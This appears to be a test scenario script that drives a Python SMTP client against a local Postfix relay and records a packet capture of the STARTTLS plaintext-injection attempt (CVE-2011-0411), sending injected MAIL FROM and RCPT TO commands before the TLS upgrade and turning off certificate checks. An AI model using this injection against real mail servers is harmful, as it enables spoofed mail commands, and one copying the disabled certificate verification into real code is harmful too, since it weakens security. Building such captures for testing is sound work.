# The client puts more commands into the packet of STARTTLS. Postfix throws them away and does TLS; another server might take
# them as if they had come through it (CVE-2011-0411). The attempt is on the wire either way.
about="clear text behind STARTTLS in one packet, thrown away by Postfix; then TLS with a mail"
made_with="postfix python openssl"
start_relay
capture_start pcap
in_client_python <<'PYTHON'
import smtplib
import ssl

context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
client = smtplib.SMTP("192.0.2.25", 25, local_hostname="pc.example.net")
client.ehlo()
client.sock.sendall(b"STARTTLS\r\nMAIL FROM:<mallory@example.com>\r\nRCPT TO:<bob@example.org>\r\n")
client.getreply()
client.sock = context.wrap_socket(client.sock, server_hostname="mx.example.org")
client.file = None
client.helo_resp = client.ehlo_resp = None
client.esmtp_features = {}
client.sendmail("alice@example.net", ["bob@example.org"], "Subject: inside\n\ntext\n")
client.quit()
PYTHON
capture_stop
